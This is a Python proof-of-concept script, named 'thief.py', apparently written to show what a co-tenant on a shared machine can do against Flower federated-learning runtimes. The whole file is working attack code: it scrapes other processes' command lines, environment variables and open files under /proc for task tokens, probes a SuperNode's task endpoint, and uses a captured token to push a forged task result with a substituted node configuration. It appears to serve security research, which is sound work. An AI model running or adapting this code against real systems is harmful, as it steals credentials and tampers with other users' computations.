"""What another user of an institution's machine can learn from processes, and do with a token.

python thief.py look PROGRAM
python thief.py take HOST:PORT
python thief.py replace HOST:PORT TOKEN RUN NODE NODE_CONFIG
"""

import json
import re
import sys
from collections.abc import Callable
from pathlib import Path

import httpx
from flwr.common.constant import FLWR_TASK_TOKEN_LENGTH
from flwr.proto.message_pb2 import Context
from flwr.proto.runtime_pb2 import AcquireTaskRequest, PushTaskOutputRequest
from flwr.supercore.interceptors import RuntimeTokenHttpInterceptor
from flwr.supercore.runtime import RuntimeHttpClient

LENGTH = 2 * FLWR_TASK_TOKEN_LENGTH
TOKEN = re.compile(rb"(?<![0-9a-f])[0-9a-f]{%d}(?![0-9a-f])" % LENGTH)


def look(program: str) -> list[str]:
    """Return what is readable of the processes of a program, and looks like a token."""
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        if program.encode() not in (process / "cmdline").read_bytes():
            continue
        for file in (process / "cmdline", process / "environ", *files_of(process)):
            try:
                found += [match.decode() for match in TOKEN.findall(file.read_bytes())]
            except OSError:
                continue
    return found


def files_of(process: Path) -> list[Path]:
    try:
        files = (process / "fd").iterdir()
        return [file for file in files if file.is_file() and file.stat().st_size == LENGTH]
    except OSError:
        return []


def take(address: str) -> int:
    """Ask a SuperNode for the next task; return the status of the answer."""
    client = RuntimeHttpClient.from_server_address(address, True, None, [])
    return status(lambda: client.AcquireTask(AcquireTaskRequest()))


def status(call: Callable[[], object]) -> int:
    try:
        call()
    except httpx.HTTPStatusError as error:
        return error.response.status_code
    return 200


def replace(address: str, token: str, run: str, node: str, node_config: str) -> int:
    """End a token's task with another node config in Flower's context; return the status."""
    interceptors = [RuntimeTokenHttpInterceptor(token)]
    client = RuntimeHttpClient.from_server_address(address, True, None, interceptors)
    context = Context(run_id=int(run), node_id=int(node))
    for key, value in json.loads(node_config).items():
        context.node_config[key].string = value
    request = PushTaskOutputRequest(context=context, sub_status="completed")
    return status(lambda: client.PushTaskOutput(request))


if __name__ == "__main__":
    print(json.dumps({"look": look, "take": take, "replace": replace}[sys.argv[1]](*sys.argv[2:])))
